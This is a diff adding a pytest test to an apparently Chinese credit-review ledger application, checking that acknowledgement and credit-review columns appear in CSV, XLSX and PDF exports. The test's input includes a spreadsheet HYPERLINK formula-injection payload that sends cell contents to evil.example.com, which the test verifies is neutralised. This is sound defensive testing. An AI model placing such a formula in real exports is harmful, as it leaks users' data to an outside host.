@@ -7,8 +7,13 @@ person's 行政处罚 in force has no rule there, so the officer must acknowledg
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
+import re
+import shutil
+import subprocess
+import zipfile
 
 import pytest
 from sqlalchemy import func, select
@@ -164,3 +169,69 @@ def test_the_reference_platform_accepts_a_review_with_its_acknowledgement(engine
     data = item.data if isinstance(item.data, dict) else __import__("json").loads(item.data)
     assert data["acknowledgement"]["records"][0]["record_id"] == "R-P"
     assert PlatformServer._check_item({"uid": item.uid, "kind": item.kind, "data": data}) is None
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example.com/?d="&A1,"王芳")'
+
+
+@pytest.mark.skipif(not shutil.which("pdftotext"), reason="n/a: poppler-utils (pdftotext) not installed")
+def test_the_acknowledgement_and_the_credit_review_are_cells_of_every_ledger_export(engine, city, tmp_path):
+    """Issue 11: the acknowledgement of unruled records and the 信用审查 link are columns of the CSV and XLSX
+    ledgers and a cell of the PDF's, not only the row detail — through the same text guards as every cell
+    (an officer's display name that starts with = stays text)."""
+    from openpyxl import load_workbook
+
+    from creditdesk.roles import Actor
+    from creditdesk.rows.ledger import HEADERS
+    from creditdesk.services.audit import AuditTrail
+    from creditdesk.services.ledger import export_ledger
+
+    kunshan = ProfileStore.bundled().resolve("kunshan", DAY)
+    at = dt.datetime(2026, 11, 23, 10, 0, tzinfo=TZ)
+    req = CreditReviewService(engine, now=lambda: at).request(kunshan, city["clean"], "approval", UNIT, None,
+                                                              subject_name="昆山精密模具有限公司")  # fmt: skip
+    service = ReviewService(engine, now=Clock(dt.datetime(2026, 11, 23, 10, 30, tzinfo=TZ)))
+    linked = service.finalise(draft_from_check(
+        CheckService(engine, "kunshan").check(city["clean"], "approval", day=DAY, commitment_signed=True),
+        OFFICER, UNIT, WINDOW, commitment=_signed()))  # fmt: skip
+    ack = Acknowledgement(OFFICER, HOSTILE_NAME, "2026-11-23T10:28:05+08:00")
+    acked = service.finalise(draft_from_check(CheckService(engine, "cangzhou").check(city["person"], "procurement", day=DAY),
+                                              OFFICER, UNIT, WINDOW, acknowledgement=ack))  # fmt: skip
+    local = dt.datetime.fromisoformat(ack.at).astimezone().strftime("%Y-%m-%d %H:%M")
+    ack_text = f"{HOSTILE_NAME} 于 {local} 确认阅知 1 条本市档案未规定措施的有效不良记录：“admin_penalty R-P”"
+    # 第十一条: 5 working days from Mon 2026-11-23 are Tue 24 .. Mon 30 (no holiday in between)
+    review_text = f"已于 2026-11-23 申请，信用中心应于 2026-11-30 前反馈，尚未收到审查报告（申请编号 {req.id}）"
+    who = Actor("lisi", "李四", "supervisor", UNIT)
+
+    def export(fmt: str):  # noqa: ANN202
+        path = tmp_path / f"ledger.{fmt}"
+        export_ledger(engine, AuditTrail(engine), LedgerFilter(DAY, DAY), fmt, path, who, unit=UNIT)
+        return path
+
+    ack_col, review_col = HEADERS.index("未规定措施记录的确认"), HEADERS.index("信用审查")
+    with export("csv").open(encoding="utf-8-sig", newline="") as fh:
+        table = list(csv.reader(fh))
+    by_code = {r[HEADERS.index("信用核查码")]: r for r in table[1:]}
+    assert by_code[acked.verification_code][ack_col] == "'" + ack_text  # a formula start: quoted
+    assert by_code[acked.verification_code][review_col] == ""
+    assert by_code[linked.verification_code][review_col] == review_text
+    assert by_code[linked.verification_code][ack_col] == ""
+
+    path = export("xlsx")
+    ws = load_workbook(path).worksheets[0]
+    assert [c.value for c in ws[3]][ack_col] == "未规定措施记录的确认" and ws.cell(3, review_col + 1).value == "信用审查"
+    rows = {r[HEADERS.index("信用核查码")].value: r for r in ws.iter_rows(min_row=4)}
+    cell = rows[acked.verification_code][ack_col]
+    assert cell.value == ack_text and cell.data_type == "s" and cell.quotePrefix
+    assert rows[linked.verification_code][review_col].value == review_text
+    with zipfile.ZipFile(path) as zf:
+        assert "<f>" not in "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
+
+    text = subprocess.run(["pdftotext", str(export("pdf")), "-"], capture_output=True, text=True,
+                          check=True).stdout  # fmt: skip
+    flat = re.sub(r"\s+", "", text)
+    assert "未规定措施确认/信用审查" in flat
+    assert "确认：" + re.sub(r"\s+", "", ack_text) in flat
+    # pdftotext drops a hyphen that ends a wrapped line: the request id is compared without its hyphens
+    assert "信用审查：已于2026-11-23申请，信用中心应于2026-11-30前反馈，尚未收到审查报告" in flat
+    assert req.id.replace("-", "") in flat.replace("-", "")
